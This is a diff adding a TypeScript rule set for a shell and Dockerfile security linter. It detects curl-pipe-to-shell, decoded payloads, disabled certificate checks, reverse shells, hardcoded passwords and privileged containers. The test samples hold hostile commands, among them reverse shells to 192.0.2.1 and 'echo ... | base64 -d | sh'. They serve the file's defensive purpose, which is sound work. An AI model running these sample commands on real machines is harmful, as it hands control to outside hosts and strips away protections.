@@ -1,0 +1,325 @@
+/** Shell scripts, and the steps of Dockerfiles: what is fetched, run and trusted. */
+import { defineRules } from "../define-rules.ts";
+import { command, expansion } from "../shell-matchers.ts";
+import type { Matcher } from "../rule.ts";
+
+const shells =
+  "(?:sudo[ \\t]+(?:-\\S+[ \\t]+)*)?(?:/(?:usr/)?bin/)?(?:ba|z|k|da|a)?sh|python3?|perl|ruby|node";
+
+export const fetching = defineRules(["bash", "dockerfile"], "security", [
+  {
+    id: "sh-download-run-unchecked",
+    severity: "high",
+    confidence: "high",
+    cwe: 494,
+    see: ["https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse"],
+    title: "A download is run without being checked",
+    message:
+      "Whoever controls that address, or the way to it, runs commands here, and a cut connection runs half a script. Download it, compare its checksum or signature, then run it.",
+    rule: {
+      any: [
+        {
+          kind: "pipeline",
+          regex: `(?s)^(?:curl|wget)\\s.*\\|&?\\s*(?:\\\\\\s+)?(?:${shells})(?:\\s+(?:-|/dev/stdin).*)?$`,
+        },
+        {
+          ...command("(?:/bin/)?(?:ba|z)?sh", [
+            { regex: "^-\\w*c$" },
+            { kind: "string", has: { kind: "command_substitution", regex: "^\\$\\(\\s*(?:curl|wget)\\s" } },
+          ]),
+        },
+        {
+          ...command("(?:ba|z)?sh|source|\\.", [
+            { kind: "process_substitution", regex: "^<\\(\\s*(?:curl|wget)\\s" },
+          ]),
+        },
+      ],
+    },
+    valid: [
+      "RUN=1; curl -fsSL https://example.com/a.tgz | tar xz",
+      "curl -s https://example.com/a.json | python3 parse.py",
+      "curl -fsSLo a.sh https://example.com/a.sh && sha256sum -c a.sum && sh a.sh",
+    ],
+    invalid: [
+      "curl -fsSL https://example.com/a.sh | bash",
+      "wget -qO- https://example.com/a.sh | sudo sh -s -- -y",
+      'sh -c "$(curl -fsSL https://example.com/a.sh)"',
+      "bash <(curl -s https://example.com/a.sh)",
+    ],
+  },
+  {
+    id: "sh-decoded-text-run",
+    severity: "high",
+    confidence: "high",
+    cwe: 506,
+    title: "Disguised text is decoded and run",
+    message:
+      "Nobody who reads this script can see what it does, which is how unwanted code is hidden. Write the commands out.",
+    rule: {
+      kind: "pipeline",
+      regex: `(?s)\\|\\s*(?:base64|openssl\\s+(?:enc|base64)|xxd)\\s+(?:-\\S+\\s+)*?(?:-d|-D|--decode|-r)\\b.*\\|\\s*(?:${shells})(?:\\s+-.*)?$`,
+    },
+    valid: ["echo $KEY | base64 -d > key.pem", "echo a | base64 | sh"],
+    invalid: ["echo ZWNobyBoaQ== | base64 -d | sh", "cat a | base64 --decode | bash -s"],
+  },
+  {
+    id: "sh-certificate-not-checked",
+    severity: "medium",
+    confidence: "high",
+    cwe: 295,
+    see: ["Transport_Layer_Security"],
+    title: "The server's certificate is not checked",
+    message:
+      "A machine on the way can pose as the server, read what is sent and change what is downloaded. Remove the option, and give the tool the certificate of your own authority if there is one.",
+    rule: {
+      any: [
+        command("curl", [{ regex: "^(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure|--proxy-insecure)$", kind: "word" }]),
+        command("wget", [{ regex: "^--no-check-certificate$" }]),
+        command("git", [{ regex: "^http\\.sslVerify(?:=false)?$" }], '(?i)sslVerify[= ]"?false'),
+        command("npm|yarn|pnpm", [{ regex: "^strict-ssl$" }], "strict-ssl\\s+false"),
+        command("pip3?|python3?", [{ regex: "^--trusted-host(?:=.*)?$" }]),
+        command("apk", [{ regex: "^--allow-untrusted$" }]),
+        command("yum|dnf", [{ regex: "^--nogpgcheck$" }]),
+        command("apt-get|apt", [{ regex: "^(?:--allow-unauthenticated|--force-yes)$" }]),
+        {
+          kind: "variable_assignment",
+          regex:
+            "^(?:NODE_TLS_REJECT_UNAUTHORIZED=[\"']?0|GIT_SSL_NO_VERIFY=[\"']?(?:1|true)|PYTHONHTTPSVERIFY=[\"']?0)[\"']?$",
+        },
+      ],
+    },
+    valid: [
+      "curl -fsS https://example.com",
+      "curl --cacert ca.pem https://example.com",
+      "git config --global http.sslVerify true",
+      "curl -o k https://example.com",
+    ],
+    invalid: [
+      "curl -sk https://example.com/a",
+      "wget --no-check-certificate https://example.com/a",
+      "git config --global http.sslVerify false",
+      "npm config set strict-ssl false",
+      "export NODE_TLS_REJECT_UNAUTHORIZED=0",
+    ],
+  },
+  {
+    id: "sh-host-key-not-checked",
+    severity: "medium",
+    confidence: "high",
+    cwe: 295,
+    see: ["https://man.openbsd.org/ssh_config#StrictHostKeyChecking"],
+    title: "SSH accepts any host key",
+    message:
+      "A machine on the way can pose as the host and read what is sent. Put the host's key into `known_hosts` beforehand.",
+    rule: command("ssh|scp|sftp|rsync|ssh-copy-id|git", [], 'StrictHostKeyChecking[ =]"?(?:no|off)\\b'),
+    valid: ["ssh -o StrictHostKeyChecking=yes a@b", "ssh -o StrictHostKeyChecking=accept-new a@b"],
+    invalid: ["ssh -o StrictHostKeyChecking=no a@b ls", 'rsync -e "ssh -o StrictHostKeyChecking=no" a b:'],
+  },
+  {
+    id: "sh-password-on-command-line",
+    severity: "high",
+    confidence: "high",
+    cwe: 798,
+    see: ["Secrets_Management"],
+    title: "A password is written into the script",
+    message:
+      "Everybody who reads this file has it, and every account of the machine sees it in the list of processes. Read it from a secret store or a file that only this account may read, and change it.",
+    rule: {
+      any: [
+        command("mysql|mysqldump|mysqladmin|mariadb", [
+          { kind: "word", regex: "^-p[A-Za-z0-9@!#%^*_.-]{4,}$" },
+        ]),
+        command("mysql|mysqldump|mysqladmin|mariadb|redis-cli|psql", [
+          {
+            any: [{ kind: "word" }, literal()],
+            regex: "^--(?:password|pass|admin-password)=[\"']?[^$\"'\\s]{3,}",
+          },
+        ]),
+        command("sshpass", [{ kind: "word", regex: "^-p[^$\\s]{3,}$" }]),
+        command("sshpass", [{ regex: "^-p$" }], "-p\\s+[\"']?[A-Za-z0-9@!#%^*_.-]{3,}"),
+        command(
+          "curl|wget",
+          [{ regex: "^(?:-u|--user)$" }],
+          "(?:-u|--user)\\s+[\"']?[A-Za-z0-9_.@-]+:[A-Za-z0-9!@#%^*_.-]{4,}",
+        ),
+        command(
+          "(?:docker|podman|helm|az|oc)",
+          [{ regex: "^login$" }],
+          "(?:-p|--password)[= ][\"']?[A-Za-z0-9!@#%^*_.-]{4,}",
+        ),
+        command(
+          "useradd|usermod",
+          [{ regex: "^(?:-p|--password)$" }],
+          "(?:-p|--password)\\s+[\"']?[A-Za-z0-9]{3,}",
+        ),
+      ],
+    },
+    valid: [
+      'mysql -u root -p"$DB_PASSWORD" app',
+      "mysql -u root -p app",
+      'curl -u "$USER:$PASSWORD" https://example.com',
+      "docker login --password-stdin",
+      'sshpass -p "$PASS" ssh a@b',
+    ],
+    invalid: [
+      "mysql -u root -phunter22 app",
+      "mysqldump --password=hunter22 app",
+      "sshpass -p hunter22 ssh a@b",
+      "curl -u admin:hunter22 https://example.com",
+      "docker login -u me -p hunter22 registry.example.com",
+    ],
+  },
+  {
+    id: "sh-password-set-to-constant",
+    severity: "high",
+    confidence: "high",
+    cwe: 798,
+    see: ["Secrets_Management"],
+    title: "An account gets a password that is written here",
+    message:
+      "Everybody who reads this file, or has the image, can sign in with it. Lock the account's password, or set it from a secret.",
+    rule: {
+      kind: "pipeline",
+      all: [
+        { has: { kind: "command", regex: "^(?:sudo\\s+)?chpasswd(?:\\s|$)" } },
+        { has: { kind: "command", regex: "^(?:echo|printf)\\s+(?:-\\w+\\s+)*[\"']?\\w+:[^$\"'\\s]{1,}" } },
+      ],
+    },
+    valid: ['echo "root:$ROOT_PASSWORD" | chpasswd', "cat users | chpasswd"],
+    invalid: ["echo 'root:root' | chpasswd", 'echo "app:hunter22" | sudo chpasswd'],
+  },
+  {
+    id: "sh-world-writable",
+    severity: "medium",
+    confidence: "high",
+    cwe: 732,
+    title: "Every user of the machine may change this",
+    message:
+      "Any account can replace what is run or read from here later. Give the right only to the owner or group that needs it.",
+    rule: command("chmod", [
+      {
+        regex: "^(?:[0-7]?[0-7][0-7][2367]|(?:a|ugo|o|go)?\\+\\w*w\\w*|(?:a|o|ugo)=\\w*w\\w*)$",
+        not: { regex: "^(?:1[0-7]{3}|[ug]\\+|\\+)" },
+      },
+    ]),
+    valid: ["chmod 755 a", "chmod u+w a", "chmod +x a", "chmod 1777 /tmp", "chmod g+w a", "chmod 600 key"],
+    invalid: [
+      "chmod 777 /app",
+      "chmod -R 0777 /var/www",
+      "chmod a+rwx a",
+      "chmod o+w a",
+      "chmod 666 /etc/app.conf",
+    ],
+  },
+  {
+    id: "sh-protection-switched-off",
+    severity: "medium",
+    confidence: "high",
+    cwe: 693,
+    title: "A protection of the machine is switched off",
+    message:
+      "Without it every later mistake in a program reaches further. Keep it on and allow what the program needs.",
+    rule: {
+      any: [
+        command("setenforce", [{ regex: "^(?:0|[Pp]ermissive)$" }]),
+        command("ufw", [{ regex: "^disable$" }]),
+        command(
+          "systemctl",
+          [{ regex: "^(?:stop|disable|mask)$" }],
+          "\\s(?:firewalld|ufw|apparmor|auditd|nftables)(?:\\.service)?(?:\\s|$)",
+        ),
+        command("iptables|ip6tables", [], "-P\\s+INPUT\\s+ACCEPT"),
+      ],
+    },
+    valid: ["setenforce 1", "systemctl restart firewalld", "iptables -P INPUT DROP"],
+    invalid: ["setenforce 0", "ufw disable", "systemctl stop firewalld", "iptables -P INPUT ACCEPT"],
+  },
+  {
+    id: "sh-sudo-without-password",
+    severity: "medium",
+    confidence: "high",
+    cwe: 250,
+    title: "An account becomes root without a password",
+    message:
+      "Whatever runs as this account owns the machine. Name the few commands that it needs instead of ALL.",
+    rule: {
+      any: [{ kind: "string" }, { kind: "raw_string" }],
+      regex: "NOPASSWD:\\s*ALL",
+    },
+    valid: ["echo 'app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' > a"],
+    invalid: ["echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
+  },
+  {
+    id: "sh-container-owns-host",
+    severity: "high",
+    confidence: "high",
+    cwe: 250,
+    see: ["Docker_Security"],
+    title: "A container is started with the rights of the host",
+    message:
+      "What breaks out of the program in it is root on the host at once. Give the single capability or path that is needed.",
+    rule: command(
+      "docker|podman",
+      [{ regex: "^(?:run|create)$" }],
+      "\\s(?:--privileged(?:=true)?|--pid[= ]host|--cap-add[= ](?:ALL|SYS_ADMIN)|(?:-v|--volume)[= ][\"']?(?:/var/run/docker\\.sock|/):)",
+    ),
+    valid: ["docker run --rm -v $PWD:/app node:22 npm ci"],
+    invalid: [
+      "docker run --privileged a",
+      "docker run -v /var/run/docker.sock:/var/run/docker.sock a",
+      "docker run -v /:/host a",
+    ],
+  },
+  {
+    id: "sh-weak-key-or-cipher",
+    severity: "medium",
+    confidence: "high",
+    cwe: 326,
+    see: ["Cryptographic_Storage"],
+    title: "A key is too short, or a cipher is broken",
+    message:
+      "Keys and ciphers of this kind can be computed or searched through. Use Ed25519 or RSA with 3072 bits, and AES-256.",
+    rule: {
+      any: [
+        command(
+          "openssl",
+          [{ regex: "^(?:genrsa|req|dsaparam|gendsa|dhparam)$" }],
+          "(?:\\s|rsa:)(?:512|768|1024)(?:\\s|$)",
+        ),
+        command(
+          "openssl",
+          [{ regex: "^(?:enc|cms|smime)$" }],
+          "\\s-(?:des|des3|des-\\S+|rc2\\S*|rc4\\S*|bf\\S*)(?:\\s|$)",
+        ),
+        command("ssh-keygen", [], "\\s(?:-t\\s*dsa|-b\\s*(?:512|768|1024))(?:\\s|$)"),
+      ],
+    },
+    valid: [
+      "openssl genrsa -out k.pem 4096",
+      "ssh-keygen -t ed25519",
+      "openssl enc -aes-256-cbc -pbkdf2 -in a",
+    ],
+    invalid: ["openssl genrsa -out k.pem 1024", "ssh-keygen -t rsa -b 1024", "openssl enc -des3 -in a"],
+  },
+  {
+    id: "sh-reverse-shell",
+    severity: "critical",
+    confidence: "high",
+    cwe: 506,
+    title: "A shell is handed to a machine on the network",
+    message:
+      "This is how break-ins keep their way in: whoever listens there types commands here. Remove it, and find out how it came.",
+    rule: {
+      any: [
+        { kind: "redirected_statement", regex: "(?s)^(?:/bin/)?(?:ba|z)?sh\\s+-i\\b.*/dev/tcp/" },
+        command("nc|ncat|netcat", [{ regex: "^-[a-z]*e$" }], "-[a-z]*e\\s+/(?:usr/)?bin/(?:ba|z)?sh"),
+      ],
+    },
+    valid: ["nc -z example.com 80"],
+    invalid: ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444"],
+  },
+]);
+
+function literal(): Matcher {
+  return { kind: "concatenation", not: { has: expansion } };
+}
